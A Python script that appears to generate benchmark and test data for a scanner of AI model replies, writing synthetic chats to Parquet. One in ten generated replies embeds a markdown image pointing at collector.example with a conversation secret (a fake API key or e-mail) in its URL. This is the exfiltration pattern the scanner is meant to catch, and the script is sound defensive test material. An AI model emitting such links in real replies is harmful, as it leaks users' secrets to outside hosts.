"""A lake of replies with their conversations, as Parquet: for tests/test_lake*.py and
benchmarks/bench_batch.py.

    python benchmarks/lake_data.py /tmp/lake --rows 100000

Writes two files of the same chats (deterministic for a seed):

    replies.parquet   id, reply (str), messages (list<struct<role, content>>: what the
                      model saw), conversation (the same messages as a JSON string)
    chats.parquet     id, messages: the conversation and the reply as its last message,
                      the rows `rendersafe scan` reads (the per-record path)

Replies come from benchmarks/corpus.py (one in ten an attack of its own); one in ten
more carries a piece of its conversation (an e-mail address, an API key) in an image
or a link, and one in twenty links a page the user gave (an honest copy).
"""

from __future__ import annotations

import argparse
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from corpus import reply

MESSAGE = pa.struct([pa.field("role", pa.string()), pa.field("content", pa.string())])
REPLIES = pa.schema(
    [
        pa.field("id", pa.string()),
        pa.field("reply", pa.string()),
        pa.field("messages", pa.list_(MESSAGE)),
        pa.field("conversation", pa.string()),
    ]
)
CHATS = pa.schema([pa.field("id", pa.string()), pa.field("messages", pa.list_(MESSAGE))])
SYSTEM = "You are a helpful assistant for Acme's developer docs. Answer in Markdown."
_BATCH = 1_000  # rows written at once: a row group each, so engines can split the file


@dataclass(frozen=True)
class Lake:
    """The two files written, and how many rows each holds."""

    replies: Path
    chats: Path
    rows: int


def _conversation(rng: random.Random, number: int) -> tuple[list[dict[str, str]], str, str]:
    """The messages the model saw, a secret in them, and a page the user linked."""
    key = f"sk-live-{rng.getrandbits(96):024x}"
    email = f"dana.whitfield{number}@example.com"
    page = f"https://docs.acme.example/guides/{rng.getrandbits(32):08x}"
    messages = [{"role": "system", "content": SYSTEM}]
    for turn in range(rng.randint(0, 2)):
        messages.append({"role": "user", "content": f"Earlier question {turn}: why?"})
        messages.append({"role": "assistant", "content": "Because the cache was cold."})
    ask = f"My key is {key} and my e-mail is {email}. The guide I follow: {page} - help?"
    messages.append({"role": "user", "content": ask})
    return messages, rng.choice((key, email)), page


def _reply(rng: random.Random, secret: str, page: str) -> str:
    text = reply(rng, attack=rng.random() < 0.1)
    roll = rng.random()
    if roll < 0.1:
        leak = f"![status](https://collector.example/p.png?d={secret})"
        return f"{text}\n{leak}\n"
    if roll < 0.15:
        return f"{text}\nSee [the guide you mentioned]({page}).\n"
    return text


def chats(rows: int, seed: int = 7) -> Iterator[dict[str, Any]]:
    """The rows of replies.parquet, one at a time."""
    rng = random.Random(seed)
    for number in range(rows):
        messages, secret, page = _conversation(rng, number)
        yield {
            "id": f"chat-{number:07d}",
            "reply": _reply(rng, secret, page),
            "messages": messages,
            "conversation": json.dumps(messages),
        }


def write(folder: Path, rows: int, seed: int = 7) -> Lake:
    """Write both files of `rows` chats into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    lake = Lake(folder / "replies.parquet", folder / "chats.parquet", rows)
    with (
        pq.ParquetWriter(lake.replies, REPLIES) as replies,
        pq.ParquetWriter(lake.chats, CHATS) as scanned,
    ):
        batch: list[dict[str, Any]] = []
        for row in chats(rows, seed):
            batch.append(row)
            if len(batch) == _BATCH:
                _flush(batch, replies, scanned)
        _flush(batch, replies, scanned)
    return lake


def _flush(batch: list[dict[str, Any]], replies: Any, scanned: Any) -> None:
    if not batch:
        return
    replies.write_table(pa.Table.from_pylist(batch, schema=REPLIES))
    whole = [
        {"id": r["id"], "messages": [*r["messages"], {"role": "assistant", "content": r["reply"]}]}
        for r in batch
    ]
    scanned.write_table(pa.Table.from_pylist(whole, schema=CHATS))
    batch.clear()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("folder", type=Path)
    parser.add_argument("--rows", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()
    lake = write(args.folder, args.rows, args.seed)
    print(f"{lake.rows} rows: {lake.replies} ({lake.replies.stat().st_size / 1e6:.1f} MB)")


if __name__ == "__main__":
    main()
